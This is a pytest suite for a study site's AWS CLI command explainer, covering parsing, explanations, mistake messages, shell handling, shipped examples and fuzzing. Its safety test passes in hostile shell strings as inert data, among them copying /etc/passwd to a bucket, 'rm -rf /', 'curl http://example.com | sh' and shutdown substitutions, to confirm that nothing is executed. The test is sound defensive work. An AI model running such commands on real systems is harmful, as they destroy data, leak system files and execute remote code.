"""The AWS CLI command explainer's pure logic (studysite.widgets.logic.cli_explain)."""

from __future__ import annotations

import ast
import builtins
import json
import os
import socket
import subprocess
from pathlib import Path

import awscli
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from studysite.widgets.logic import cli_explain
from studysite.widgets.logic.cli_explain import (
    INPUT_SCHEMA,
    MAX_COMMAND_LENGTH,
    OUTPUT_SCHEMA,
    TOKEN_KINDS,
    CliExplainInput,
    explain_command,
    models,
    parse_input,
)
from studysite.widgets.logic.cli_explain.lexer import lex
from studysite.widgets.logic.common import InputError


@pytest.fixture(autouse=True)
def _fresh_chapters():
    """Pure logic: override the Django-backed autouse fixture of tests/conftest.py.

    This lets the file run with ``-p no:django`` as well as in the full suite.
    """
    yield


def explain(command: str) -> dict:
    return explain_command(parse_input({"command": command})).to_dict()


def messages(out: dict, key: str = "errors") -> str:
    return "\n".join(p["message"] for p in out[key])


CONTRACT_KEYS = {
    "valid",
    "service",
    "operation",
    "api_operation",
    "http",
    "summary",
    "parameters",
    "global_options",
    "errors",
}
PARAMETER_KEYS = {"option", "value", "description", "required", "type"}
PROBLEM_KEYS = {"message", "token", "suggestion"}


def assert_contract(out: dict, command: str) -> None:
    """The JSON contract every answer keeps, whatever the input."""
    assert set(out) >= CONTRACT_KEYS
    assert isinstance(out["valid"], bool)
    assert out["valid"] == (not out["errors"])
    for key in ("service", "operation", "api_operation"):
        assert out[key] is None or isinstance(out[key], str)
    assert out["http"] is None or {"method", "path"} <= set(out["http"])
    assert isinstance(out["summary"], str)
    for entry in out["parameters"] + out["global_options"]:
        assert set(entry) >= PARAMETER_KEYS
        assert entry["value"] is None or isinstance(entry["value"], str)
        assert isinstance(entry["required"], bool)
    for problem in out["errors"] + out["warnings"]:
        assert set(problem) >= PROBLEM_KEYS
        assert isinstance(problem["message"], str) and problem["message"]
    for token in out["tokens"]:
        assert token["kind"] in TOKEN_KINDS
        assert command[token["start"] : token["end"]] == token["text"]
    json.dumps(out)  # JSON-serialisable all the way down


# ------------------------------------------------------------------ parse_input


class TestParseInput:
    def test_a_command_is_read(self):
        assert parse_input({"command": "aws s3 ls"}) == CliExplainInput(command="aws s3 ls")

    @pytest.mark.parametrize(
        ("data", "needle"),
        [
            ({}, "required"),
            ({"command": None}, "required"),
            ({"command": 42}, "text"),
            ({"command": ""}, "Enter an AWS CLI command"),
            ({"command": "  \n "}, "Enter an AWS CLI command"),
            ({"command": "aws s3 ls " + "x" * MAX_COMMAND_LENGTH}, "8,000 characters"),
        ],
    )
    def test_bad_input_gets_a_clear_message(self, data, needle):
        with pytest.raises(InputError) as info:
            parse_input(data)
        assert [e.field for e in info.value.errors] == ["command"]
        assert needle in info.value.errors[0].message

    def test_the_longest_allowed_command_is_accepted(self):
        command = "aws s3 ls " + "x" * (MAX_COMMAND_LENGTH - len("aws s3 ls "))
        assert parse_input({"command": command}).command == command


# --------------------------------------------------------- correct commands


class TestExplainsCorrectCommands:
    def test_s3api_put_object(self):
        command = "aws s3api put-object --bucket amzn-s3-demo-bucket --key notes.txt --body n.txt"
        out = explain(command)
        assert_contract(out, command)
        assert out["valid"] is True
        assert out["service"] == "s3api"
        assert out["operation"] == "put-object"
        assert out["api_operation"] == "PutObject"
        assert out["http"]["method"] == "PUT"
        assert out["http"]["path"] == "/{Bucket}/{Key+}"
        assert out["service_name"] == "Amazon Simple Storage Service"
        assert out["service_id"] == "s3"
        assert out["summary"].startswith("Adds an object to a bucket")
        assert "<" not in out["summary"]  # HTML stripped
        assert out["reference_url"] == (
            "https://docs.aws.amazon.com/cli/latest/reference/s3api/put-object.html"
        )
        bucket = out["parameters"][0]
        assert bucket["option"] == "--bucket"
        assert bucket["value"] == "amzn-s3-demo-bucket"
        assert bucket["required"] is True
        assert bucket["type"] == "string"
        assert "bucket" in bucket["description"].lower()
        body = out["parameters"][2]
        assert body["type"] == "blob"
        kinds = [(t["text"], t["kind"]) for t in out["tokens"]]
        assert kinds[:4] == [
            ("aws", "program"),
            ("s3api", "service"),
            ("put-object", "operation"),
            ("--bucket", "option"),
        ]
        assert kinds[4] == ("amzn-s3-demo-bucket", "value")
        assert all(t["meaning"] for t in out["tokens"])

    def test_high_level_s3_cp_has_positional_source_and_destination(self):
        command = "aws s3 cp test.txt s3://amzn-s3-demo-bucket/dir/test2.txt --dryrun"
        out = explain(command)
        assert_contract(out, command)
        assert out["valid"] is True
        assert (out["service"], out["operation"]) == ("s3", "cp")
        assert out["api_operation"] is None and out["http"] is None
        assert out["summary"].startswith("Copies a local file or S3 object")
        roles = [(p["role"], p["value"]) for p in out["positionals"]]
        assert roles == [
            ("source", "test.txt"),
            ("destination", "s3://amzn-s3-demo-bucket/dir/test2.txt"),
        ]
        dest = out["positionals"][1]["description"]
        assert "amzn-s3-demo-bucket" in dest and "dir/test2.txt" in dest
        assert out["parameters"] == [
            {
                **out["parameters"][0],
                "option": "--dryrun",
                "value": None,
                "type": "boolean",
                "required": False,
            }
        ]
        assert out["reference_url"].endswith("/reference/s3/cp.html")

    @pytest.mark.parametrize(
        "operation", ["cp", "sync", "mv", "rm", "ls", "mb", "rb", "presign", "website"]
    )
    def test_every_high_level_s3_command_is_known(self, operation):
        out = explain(f"aws s3 {operation} help")
        assert out["valid"] is True, out["errors"]
        assert out["operation"] == operation
        assert out["api_operation"] is None

    def test_global_options_anywhere(self):
        command = (
            "aws --region eu-west-1 s3api list-buckets --output table --profile dev "
            "--query 'Buckets[].Name' --no-paginate --debug --endpoint-url http://localhost:4566"
        )
        out = explain(command)
        assert_contract(out, command)
        assert out["valid"] is True, out["errors"]
        assert out["parameters"] == []
        written = [(g["option"], g["value"]) for g in out["global_options"]]
        assert written == [
            ("--region", "eu-west-1"),
            ("--output", "table"),
            ("--profile", "dev"),
            ("--query", "Buckets[].Name"),
            ("--no-paginate", None),
            ("--debug", None),
            ("--endpoint-url", "http://localhost:4566"),
        ]
        kinds = {t["text"]: t["kind"] for t in out["tokens"]}
        assert kinds["--region"] == kinds["--no-paginate"] == "global-option"
        assert kinds["'Buckets[].Name'"] == "value"

    def test_configure_is_a_custom_command(self):
        out = explain("aws configure set region us-east-1 --profile dev")
        assert out["valid"] is True
        assert (out["service"], out["operation"], out["api_operation"]) == (
            "configure",
            "set",
            None,
        )
        assert [p["value"] for p in out["positionals"]] == ["region", "us-east-1"]
        assert explain("aws configure")["valid"] is True  # the interactive wizard
        assert explain("aws configure list")["valid"] is True

    def test_s3control_has_its_host_prefix(self):
        out = explain("aws s3control list-jobs --account-id 123456789012")
        assert out["valid"] is True
        assert out["api_operation"] == "ListJobs"
        assert out["http"]["method"] == "GET"
        assert out["http"].get("host_prefix") == "{AccountId}."

    def test_ec2_list_and_shorthand_values(self):
        command = (
            "aws ec2 describe-instances --instance-ids i-1234567890abcdef0 i-0598c7d356eba48d7 "
            "--filters Name=instance-type,Values=t2.micro,t3.micro Name=availability-zone,"
            "Values=us-east-2c"
        )
        out = explain(command)
        assert_contract(out, command)
        assert out["valid"] is True, out["errors"]
        ids, filters = out["parameters"]
        assert ids["values"] == ["i-1234567890abcdef0", "i-0598c7d356eba48d7"]
        assert filters["syntax"] == "shorthand"
        assert filters["parsed"][0] == {"Name": "instance-type", "Values": ["t2.micro", "t3.micro"]}
        assert filters["tree"]["children"][0]["children"][0]["name"] == "Name"

    def test_json_value_tree_carries_model_docs(self):
        command = (
            "aws s3api put-bucket-lifecycle-configuration --bucket b --lifecycle-configuration "
            '\'{"Rules": [{"ID": "old", "Status": "Enabled", "Filter": {"Prefix": "logs/"}, '
            '"Expiration": {"Days": 30}}]}\''
        )
        out = explain(command)
        assert out["valid"] is True, out["errors"]
        config = out["parameters"][1]
        assert config["syntax"] == "JSON"
        rule = config["tree"]["children"][0]["children"][0]
        names = {child["name"]: child for child in rule["children"]}
        assert names["Expiration"]["type"] == "structure"
        assert names["Expiration"]["children"][0] == {
            **names["Expiration"]["children"][0],
            "name": "Days",
            "type": "integer",
            "value": 30,
        }

    def test_file_references_are_explained_never_read(self):
        command = (
            "aws s3api put-bucket-policy --bucket b --policy file:///etc/definitely-not-here.json"
        )
        out = explain(command)
        assert out["valid"] is True
        policy = out["parameters"][1]
        assert policy["file_reference"] == {
            "prefix": "file://",
            "path": "/etc/definitely-not-here.json",
            "binary": False,
        }
        token = next(t for t in out["tokens"] if t["text"].startswith("file://"))
        assert "not opened" in token["meaning"]

    def test_blob_from_a_text_file_gets_a_fileb_hint(self):
        out = explain("aws kms encrypt --key-id alias/k --plaintext file://secret.txt")
        assert out["valid"] is True
        assert "fileb://" in messages(out, "warnings")

    def test_waiters_are_nested_subcommands(self):
        out = explain("aws s3api wait bucket-exists --bucket amzn-s3-demo-bucket")
        assert out["valid"] is True
        assert out["operation"] == "wait bucket-exists"
        assert out["api_operation"] == "HeadBucket"
        assert out["reference_url"].endswith("/reference/s3api/wait/bucket-exists.html")

    def test_cli_input_json_and_skeleton_lift_the_required_options(self):
        assert explain("aws s3api put-object --cli-input-json file://in.json")["valid"]
        assert explain("aws s3api put-object --generate-cli-skeleton")["valid"]
        assert explain("aws s3api put-object --generate-cli-skeleton output")["valid"]

    @pytest.mark.parametrize(
        "command",
        [
            "aws help",
            "aws s3api help",
            "aws s3api put-object help",
            "aws s3 cp help",
            "aws --version",
        ],
    )
    def test_help_and_version(self, command):
        out = explain(command)
        assert out["valid"] is True, out["errors"]
        assert out["summary"]

    def test_explicit_equals_form(self):
        out = explain("aws s3api list-objects-v2 --bucket=b --max-keys=10")
        assert out["valid"] is True
        assert [(p["option"], p["value"]) for p in out["parameters"]] == [
            ("--bucket", "b"),
            ("--max-keys", "10"),
        ]

    def test_line_continuations_are_joined(self):
        command = "aws s3api put-object \\\n    --bucket amzn-s3-demo-bucket \\\n    --key k"
        out = explain(command)
        assert_contract(out, command)
        assert out["valid"] is True
        assert out["warnings"] == []

    def test_forgotten_backslash_is_joined_with_a_warning(self):
        out = explain("aws s3api put-object --bucket b\n--key k")
        assert out["valid"] is True
        assert "backslash" in messages(out, "warnings")

    def test_environment_assignment_before_aws(self):
        out = explain("AWS_PROFILE=dev AWS_DEFAULT_REGION=eu-west-1 aws s3 ls")
        assert out["valid"] is True
        first = out["tokens"][0]
        assert first["kind"] == "shell"
        assert "'profile' setting" in first["meaning"]

    def test_negative_numbers_are_values(self):
        out = explain("aws ec2 describe-instances --max-results -5")
        assert [p["value"] for p in out["parameters"]] == ["-5"]

    def test_abbreviations_are_accepted_with_a_warning(self):
        out = explain("aws s3api get-bucket-location --buck b --reg us-east-1")
        assert out["valid"] is True
        assert [p["name"] for p in out["parameters"]] == ["--bucket"]
        assert [g["name"] for g in out["global_options"]] == ["--region"]
        assert "abbreviation" in messages(out, "warnings")


# --------------------------------------------------------------- mistakes


MISTAKES = [
    # (command, needle in an error message, suggestion, token)
    pytest.param("aws-s3 cp a.txt s3://b/", "not a program", "aws s3", "aws-s3", id="aws-s3"),
    pytest.param("awss3 ls", "not a program", "aws s3", "awss3", id="awss3"),
    pytest.param("s3 ls s3://b", "Start with the program name", "aws s3", "s3", id="no-aws"),
    pytest.param("asw s3 ls", "program name", "aws", "asw", id="asw"),
    pytest.param("ls -la", "not the AWS CLI", None, "ls", id="other-program"),
    pytest.param("aws s4 ls", "not an AWS CLI command", "s3", "s4", id="unknown-service"),
    pytest.param("aws S3api list-buckets", "not an AWS CLI", "s3api", "S3api", id="service-case"),
    pytest.param(
        "aws ec2 describe-instance",
        "Did you mean",
        "describe-instances",
        "describe-instance",
        id="unknown-operation",
    ),
    pytest.param(
        "aws s3api PutObject --bucket b --key k",
        "not a subcommand",
        "put-object",
        "PutObject",
        id="api-name-as-operation",
    ),
    pytest.param("aws s3api cp a s3://b/k", "aws s3 cp exists", "s3 cp", "cp", id="cp-under-s3api"),
    pytest.param(
        "aws s3 put-object --bucket b --key k",
        "aws s3api put-object exists",
        "s3api put-object",
        "put-object",
        id="put-object-under-s3",
    ),
    pytest.param(
        "aws s3api put-object --buckt b --key k",
        "Did you mean --bucket",
        "--bucket",
        "--buckt",
        id="misspelt-option",
    ),
    pytest.param(
        "aws s3api put-object --bucket-name b --key k",
        "Unknown option",
        "--bucket",
        "--bucket-name",
        id="bucket-name",
    ),
    pytest.param(
        "aws s3api create-bucket --Bucket b",
        "Unknown option",
        "--bucket",
        "--Bucket",
        id="camel-option",
    ),
    pytest.param(
        "aws s3 cp a.txt s3://b/ --recurse",
        "Did you mean --recursive",
        "--recursive",
        "--recurse",
        id="misspelt-flag",
    ),
    pytest.param(
        "aws --regoin us-east-1 s3 ls",
        "global options",
        "--region",
        "--regoin",
        id="misspelt-global",
    ),
    pytest.param(
        "aws s3api put-object --key k",
        "--bucket is required",
        "--bucket",
        None,
        id="required-missing",
    ),
    pytest.param(
        "aws s3api put-object --bucket a --key k --bucket b",
        "given twice",
        None,
        "--bucket",
        id="duplicate",
    ),
    pytest.param(
        "aws --region us-east-1 s3 ls --region eu-west-1",
        "given twice",
        None,
        "--region",
        id="duplicate-global",
    ),
    pytest.param(
        "aws s3api list-objects-v2 --bucket b --max-keys ten",
        "whole number",
        None,
        "ten",
        id="integer",
    ),
    pytest.param(
        "aws s3 presign s3://b/k --expires-in soon",
        "whole number",
        None,
        "soon",
        id="custom-integer",
    ),
    pytest.param(
        "aws s3api put-object --bucket b --key k --expires tomorrow",
        "timestamp",
        None,
        "tomorrow",
        id="timestamp",
    ),
    pytest.param(
        "aws s3api put-object --bucket b --key k --storage-class GLACIERR",
        "not an allowed value",
        "GLACIER",
        "GLACIERR",
        id="enum",
    ),
    pytest.param(
        "aws s3api put-object --bucket b --key k --acl public_read",
        "not an allowed value",
        "public-read",
        "public_read",
        id="enum-underscore",
    ),
    pytest.param(
        "aws s3 cp a s3://b/ --storage-class standard",
        "not a valid choice",
        "STANDARD",
        "standard",
        id="choices",
    ),
    pytest.param("aws s3 ls --output yml", "not a valid choice", None, "yml", id="output"),
    pytest.param(
        "aws s3 ls --output tabel", "not a valid choice", "table", "tabel", id="output-typo"
    ),
    pytest.param(
        "aws ec2 describe-instances --dry-run --no-dry-run",
        "contradict",
        None,
        "--no-dry-run",
        id="boolean-pair",
    ),
    pytest.param(
        "aws s3 ls --no-paginate=true",
        "flag and takes no value",
        "--no-paginate",
        "--no-paginate=true",
        id="flag-with-value",
    ),
    pytest.param(
        "aws s3 cp 'my file.txt s3://b/", "Unbalanced quotes", None, None, id="unbalanced-single"
    ),
    pytest.param(
        'aws s3 cp "my file.txt s3://b/', "Unbalanced quotes", None, None, id="unbalanced-double"
    ),
    pytest.param("aws s3 ls $(echo s3://b", "never closed", None, None, id="unbalanced-subst"),
    pytest.param("aws s3 cp a.txt", "needs 2 values", None, "a.txt", id="cp-one-path"),
    pytest.param("aws s3 cp", "positional", None, None, id="cp-no-path"),
    pytest.param(
        "aws s3 cp a.txt b.txt",
        "cannot take a local path and a local path",
        None,
        None,
        id="cp-local-local",
    ),
    pytest.param(
        "aws s3 mb my-bucket", "cannot take a local path", None, None, id="mb-without-s3-scheme"
    ),
    pytest.param("aws s3 cp a s3://b/ c", "Unexpected argument", None, "c", id="extra-path"),
    pytest.param(
        "aws s3api get-object --bucket b --key k", "outfile", None, None, id="get-object-outfile"
    ),
    pytest.param("aws s3api", "needs a subcommand", None, None, id="service-only"),
    pytest.param("aws", "needs a command", None, None, id="aws-only"),
    pytest.param(
        "aws s3api list-buckets --query 'Buckets[.Name'",
        "JMESPath",
        None,
        "'Buckets[.Name'",
        id="jmespath",
    ),
    pytest.param(
        "aws s3 ls --region 'us east 1'",
        "not a Region code",
        None,
        "'us east 1'",
        id="region-format",
    ),
    pytest.param(
        "aws s3 ls --endpoint-url localhost:4566",
        "scheme",
        "https://localhost:4566",
        "localhost:4566",
        id="endpoint-url",
    ),
    pytest.param(
        'aws s3api put-bucket-tagging --bucket b --tagging {"TagSet":[]}',
        "single quotes",
        None,
        None,
        id="unquoted-json",
    ),
    pytest.param(
        "aws s3api put-bucket-tagging --bucket b --tagging '{\"TagSet\": ['",
        "invalid JSON",
        None,
        None,
        id="broken-json",
    ),
    pytest.param(
        "aws s3api put-bucket-tagging --bucket b --tagging 'TagSet=[{Key=a,,}]'",
        "shorthand",
        None,
        None,
        id="broken-shorthand",
    ),
    pytest.param(
        "aws s3api put-bucket-lifecycle-configuration --bucket b "
        '--lifecycle-configuration \'{"Rules": [{"Expirtion": {"Days": 1}, '
        '"Status": "Enabled"}]}\'',
        "Did you mean Expiration",
        None,
        None,
        id="json-unknown-key",
    ),
    pytest.param(
        "aws s3api put-bucket-versioning --bucket b --versioning-configuration Stats=Enabled",
        "Did you mean Status",
        None,
        None,
        id="shorthand-unknown-key",
    ),
    pytest.param(
        "aws s3api put-bucket-versioning --bucket b --versioning-configuration Status=On",
        "not an allowed value",
        None,
        None,
        id="shorthand-enum",
    ),
    pytest.param(
        "aws s3api put-bucket-lifecycle-configuration --bucket b "
        '--lifecycle-configuration \'{"Rules": [{"Status": "enabled"}]}\'',
        "Did you mean Enabled",
        None,
        None,
        id="json-enum",
    ),
    pytest.param(
        "aws s3api put-bucket-lifecycle-configuration --bucket b "
        '--lifecycle-configuration \'{"Rules": [{"ID": "x"}]}\'',
        "required key 'Status'",
        None,
        None,
        id="json-required-key",
    ),
    pytest.param(
        "aws s3api put-bucket-lifecycle-configuration --bucket b "
        '--lifecycle-configuration \'{"Rules": [{"Status": "Enabled", '
        '"Expiration": {"Days": "30"}}]}\'',
        "wrong type",
        None,
        None,
        id="json-type",
    ),
    pytest.param(
        "aws s3api put-object --bucket --key k",
        "needs a value",
        None,
        "--bucket",
        id="missing-value",
    ),
    pytest.param(
        "aws s3 cp a s3://b/ --exclude", "needs", None, "--exclude", id="missing-filter-value"
    ),
    pytest.param(
        "aws s3 cp a s3://b/ --recursive true", "is a flag", None, "true", id="flag-given-a-value"
    ),
    pytest.param(
        "aws s3api --bucket b put-object --key k",
        "comes before the subcommand",
        None,
        "--bucket",
        id="option-before-operation",
    ),
    pytest.param("aws configure lst", "Did you mean list", "list", "lst", id="configure-typo"),
]


class TestMistakes:
    @pytest.mark.parametrize(("command", "needle", "suggestion", "token"), MISTAKES)
    def test_each_mistake_gets_a_helpful_error(self, command, needle, suggestion, token):
        out = explain(command)
        assert_contract(out, command)
        assert out["valid"] is False
        matching = [e for e in out["errors"] if needle in e["message"]]
        assert matching, messages(out)
        problem = matching[0]
        if suggestion is not None:
            assert problem["suggestion"] == suggestion
        if token is not None:
            assert problem["token"] == token

    def test_a_suggestion_comes_with_the_corrected_command(self):
        out = explain("aws s3api put-object --buckt b --key k")
        assert out["errors"][0]["corrected_command"] == "aws s3api put-object --bucket b --key k"
        out = explain("aws s3 put-object --bucket b --key k")
        assert out["errors"][0]["corrected_command"] == "aws s3api put-object --bucket b --key k"
        out = explain("aws-s3 ls")
        assert out["errors"][0]["corrected_command"] == "aws s3 ls"

    def test_a_misspelt_required_option_is_reported_once(self):
        out = explain("aws s3api put-object --buckt b --key k")
        assert len(out["errors"]) == 1
        assert out["required_missing"] == ["--bucket"]

    def test_required_missing_lists_every_missing_option(self):
        from botocore import xform_name

        out = explain("aws s3control create-job --account-id 123456789012")
        shape = models.load_cli().driver.session.get_service_model("s3control")
        shape = shape.operation_model("CreateJob").input_shape
        expected = {
            "--" + xform_name(name, "-")
            for name in shape.required_members
            if not shape.members[name].metadata.get("idempotencyToken")
        } - {"--account-id"}
        assert set(out["required_missing"]) == expected
        assert len(out["errors"]) == len(expected)

    def test_unknown_region_is_a_warning_with_a_suggestion(self):
        out = explain("aws s3 ls --region us-east1")
        assert out["valid"] is True
        assert out["warnings"][0]["suggestion"] == "us-east-1"

    def test_unquoted_glob_is_a_warning(self):
        out = explain("aws s3 cp . s3://b/ --recursive --exclude *.tmp")
        assert out["valid"] is True
        assert out["warnings"][0]["suggestion"] == "'*.tmp'"
        assert explain("aws s3 cp . s3://b/ --recursive --exclude '*.tmp'")["warnings"] == []

    def test_repeatable_options_are_not_duplicates(self):
        out = explain(
            "aws s3 cp . s3://b/ --recursive --exclude '*' --include '*.jpg' --include '*.png'"
        )
        assert out["valid"] is True, out["errors"]
        assert [p["option"] for p in out["parameters"]] == [
            "--recursive",
            "--exclude",
            "--include",
            "--include",
        ]

    def test_ec2_boolean_flags(self):
        out = explain("aws ec2 describe-instances --dry-run --no-paginate")
        assert out["valid"] is True
        assert out["parameters"][0]["type"] == "boolean"
        assert out["global_options"][0]["option"] == "--no-paginate"
        assert explain("aws ec2 describe-instances --no-dry-run")["valid"] is True


# ------------------------------------------------------------------ the shell


class TestShell:
    def test_metacharacters_are_the_shells(self):
        command = (
            "aws s3api get-bucket-policy --bucket b --query Policy --output text > p.json "
            "&& cat p.json | jq . ; echo `date` $(whoami)"
        )
        out = explain(command)
        assert_contract(out, command)
        assert out["valid"] is True
        shell = {t["text"]: t["meaning"] for t in out["tokens"] if t["kind"] == "shell"}
        assert {">", "p.json", "&&", "cat", "|", "jq", ";", "echo", "`date`", "$(whoami)"} <= set(
            shell
        )
        assert "shell writes" in shell[">"]
        assert any("shell" in note for note in out["notes"])
        assert [p["option"] for p in out["parameters"]] == ["--bucket"]

    def test_substitutions_in_values_are_not_checked(self):
        out = explain("aws s3api list-objects-v2 --bucket $BUCKET --max-keys $(echo 5)")
        assert out["valid"] is True
        assert any("expanded by the shell" in note for note in out["notes"])

    def test_a_wrapper_program_before_aws(self):
        out = explain("sudo aws s3 ls")
        assert out["valid"] is True
        assert out["tokens"][0]["kind"] == "shell"
        assert out["tokens"][1]["kind"] == "program"

    def test_comments(self):
        out = explain("aws s3 ls  # list my buckets")
        assert out["valid"] is True
        assert out["tokens"][-1]["kind"] == "shell"

    def test_quoted_metacharacters_are_values(self):
        out = explain("aws s3 cp 'a;b|c.txt' 's3://b/x&y>z'")
        assert out["valid"] is True
        assert [p["value"] for p in out["positionals"]] == ["a;b|c.txt", "s3://b/x&y>z"]


# ------------------------------------------------------------- the packages' examples


def _literal_blocks(text: str):
    """Yield the indented blocks after '::' lines of a reStructuredText file."""
    lines = text.splitlines()
    i = 0
    while i < len(lines):
        if lines[i].rstrip().endswith("::"):
            base = len(lines[i]) - len(lines[i].lstrip())
            j = i + 1
            block = []
            while j < len(lines) and (
                not lines[j].strip() or len(lines[j]) - len(lines[j].lstrip()) > base
            ):
                block.append(lines[j])
                j += 1
            yield i + 1, block
            i = j
        else:
            i += 1


def _example_commands(service: str):
    """Every ``aws ...`` command in awscli/examples/<service>, continuations kept."""
    root = Path(awscli.__file__).parent / "examples" / service
    for path in sorted(root.rglob("*.rst")):
        if path.name.startswith("_"):
            continue
        for line_number, block in _literal_blocks(path.read_text(encoding="utf-8")):
            k = 0
            while k < len(block):
                stripped = block[k].strip()
                if stripped == "aws" or stripped.startswith("aws "):
                    parts = [stripped]
                    while parts[-1].endswith("\\") and k + 1 < len(block):
                        k += 1
                        parts.append(block[k].strip())
                    name = f"{path.relative_to(root.parent)}:{line_number + 1}"
                    yield pytest.param("\n".join(parts), id=name)
                k += 1


EXAMPLES = [p for service in ("s3", "s3api", "s3control") for p in _example_commands(service)]
# Shipped examples that are themselves questionable: (id prefix -> reason). None are wrong
# enough to be an error today; these only draw warnings, listed so nobody is surprised.
EXAMPLE_WARNINGS = {
    "s3control/get-multi-region-access-point-routes.rst": "--region Region is a placeholder",
    "s3api/get-bucket-lifecycle.rst": "the operation is deprecated in the model",
    "s3api/put-bucket-lifecycle.rst": "the operation is deprecated in the model",
    "s3api/get-bucket-notification.rst": "the operation is deprecated in the model",
    "s3api/put-bucket-notification.rst": "the operation is deprecated in the model",
}


def test_the_examples_were_found():
    assert len(EXAMPLES) > 150
    services = {p.id.split("/")[0] for p in EXAMPLES}
    assert services == {"s3", "s3api", "s3control"}


@pytest.mark.parametrize("command", EXAMPLES)
def test_every_shipped_example_explains_without_an_error(command, request):
    out = explain(command)
    assert_contract(out, command)
    assert out["errors"] == [], messages(out)
    assert out["service"]  # s3/cp.rst also shows an "aws iam get-user-policy" command
    assert out["operation"]
    example_id = request.node.callspec.id
    if out["warnings"]:
        assert example_id.split(":")[0] in EXAMPLE_WARNINGS, messages(out, "warnings")


# ------------------------------------------------------------------ robustness


_VOCABULARY = (
    "aws s3 s3api s3control ec2 configure cp ls sync put-object get-object wait "
    "bucket-exists help --bucket --key --body b k --region --output --query --profile "
    "--no-paginate --dry-run --no-dry-run --filters Name=x,Values=y --tagging "
    "TagSet=[{Key=a,Value=b}] { } [ ] = , ' \" \\ | ; && > 2>&1 $( ) ` $X # -- - -1 "
    "file://x fileb://y s3://b/k . --generate-cli-skeleton --cli-input-json --max-keys 10 "
    "ten --expires 2024-01-01 --storage-class GLACIER --acl --recursive --exclude * "
    "--metadata a=b --instance-ids --lifecycle-configuration --version --debug "
    "--endpoint-url =x"
)
SHELLISH = st.sampled_from([*_VOCABULARY.split(), "\\\n", "\n", "'{\"TagSet\": []}'"])


@settings(max_examples=150)
@given(st.text(max_size=120))
def test_arbitrary_text_never_raises(text):
    out = explain_command(CliExplainInput(command=text)).to_dict()
    assert_contract(out, text)


@settings(max_examples=250)
@given(st.lists(SHELLISH, max_size=14), st.sampled_from([" ", "  ", "", "\t"]))
def test_command_like_input_never_raises(words, joiner):
    text = joiner.join(words)
    out = explain_command(CliExplainInput(command=text)).to_dict()
    assert_contract(out, text)


@settings(max_examples=60)
@given(
    st.sampled_from(
        [
            "aws s3api put-bucket-tagging --bucket b --tagging ",
            "aws ec2 describe-instances --filters ",
            "aws s3api put-object --metadata ",
        ]
    ),
    st.text(alphabet="{}[]\",:=ab1 \\'@", max_size=40),
)
def test_odd_json_and_shorthand_values_never_raise(prefix, value):
    from shlex import quote

    command = prefix + quote(value)
    out = explain_command(CliExplainInput(command=command)).to_dict()
    assert_contract(out, command)


def test_deeply_nested_json_does_not_raise():
    depth = MAX_COMMAND_LENGTH // 2 - 60
    command = "aws s3api put-bucket-tagging --bucket b --tagging '" + "[" * depth + "'"
    out = explain(command)
    assert out["valid"] is False
    nested = '{"TagSet": ' + "[" * 800 + "]" * 800 + "}"
    out = explain(f"aws s3api put-bucket-tagging --bucket b --tagging '{nested}'")
    assert out["valid"] is False


def test_a_huge_command_is_handled_and_problems_are_capped():
    command = "aws s3api put-object " + " ".join(f"--x{i} v" for i in range(1200))
    command = command[:MAX_COMMAND_LENGTH]
    out = explain(command)
    assert_contract(out, command)
    assert out["valid"] is False
    assert len(out["errors"]) <= 60
    assert "more problems" in out["errors"][-1]["message"]


def test_lexer_agrees_with_shlex_on_plain_words():
    import shlex

    for command in [
        "aws s3 cp 'my file.txt' \"s3://b/a b\" --acl public-read",
        "aws s3api put-object --bucket b --key 'it'\\''s' --body x\\ y",
        'aws s3 ls "s3://b/\\"quoted\\"/"',
    ]:
        words, problems = lex(command)
        assert problems == []
        assert [w.value for w in words] == shlex.split(command)


@settings(max_examples=150)
@given(st.lists(st.text(alphabet="ab '\"\\ ", min_size=1, max_size=6), max_size=6))
def test_lexer_agrees_with_shlex_for_quoting(parts):
    import shlex

    command = " ".join(parts)
    try:
        expected = shlex.split(command)
    except ValueError:
        words, problems = lex(command)
        assert problems  # shlex says unbalanced: so do we
        return
    words, problems = lex(command)
    if not problems:
        assert [w.value for w in words] == expected


# ---------------------------------------------------------------------- safety


def test_nothing_is_run_fetched_or_read(monkeypatch):
    """Subprocesses, sockets and os.system are off limits; a warm explain opens no file."""

    def forbidden(*args, **kwargs):
        raise AssertionError(f"forbidden call: {args!r}")

    monkeypatch.setattr(subprocess, "Popen", forbidden)
    monkeypatch.setattr(subprocess, "run", forbidden)
    monkeypatch.setattr(os, "system", forbidden)
    monkeypatch.setattr(os, "popen", forbidden)
    monkeypatch.setattr(socket, "socket", forbidden)
    monkeypatch.setattr(socket, "create_connection", forbidden)
    monkeypatch.setattr(socket, "getaddrinfo", forbidden)
    commands = [
        "aws s3api put-object --bucket b --key k --body /etc/passwd --tagging file:///etc/hosts",
        "aws s3 cp /etc/passwd s3://b/k ; rm -rf / && curl http://example.com | sh",
        "aws s3api put-bucket-tagging --bucket b --tagging 'TagSet=[{Key@=file:///etc/hosts,V=1}]'",
        "aws ec2 run-instances --image-id ami-1 --user-data https://example.com/x.sh",
        "aws s3 ls `reboot` $(shutdown now)",
        "aws configure set aws_secret_access_key x",
    ]
    # Cold: the tables are built from scratch under the same restrictions.
    cli_explain.clear_caches()
    opened: list[str] = []
    real_open = builtins.open

    def recording_open(file, *args, **kwargs):
        opened.append(os.fspath(file) if isinstance(file, str | os.PathLike) else repr(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", recording_open)
    for command in commands:
        explain(command)
    assert not [p for p in opened if p.startswith("/etc")], opened
    # Warm: the same commands again open nothing at all.
    opened.clear()
    for command in commands:
        explain(command)
    assert opened == []


def test_the_package_does_not_import_django():
    imported = set()
    package = Path(cli_explain.__file__).parent
    nodes = [
        n for path in package.glob("*.py") for n in ast.walk(ast.parse(path.read_text("utf-8")))
    ]
    for node in nodes:
        if isinstance(node, ast.Import):
            imported |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            imported.add(node.module.split(".")[0])
    assert "django" not in imported
    assert "studysite" not in imported
    assert not imported & {"subprocess", "socket", "urllib", "http", "requests", "shutil"}


def test_tables_are_built_once_and_cached():
    explain("aws s3api put-object --bucket b --key k")
    before = models.command_node.cache_info()
    for _ in range(5):
        explain("aws s3api put-object --bucket b --key k")
    after = models.command_node.cache_info()
    assert after.misses == before.misses
    assert after.hits > before.hits
    assert models.load_cli.cache_info().currsize == 1


# ---------------------------------------------------------------------- schemas


def test_schemas_describe_the_contract():
    assert INPUT_SCHEMA["required"] == ["command"]
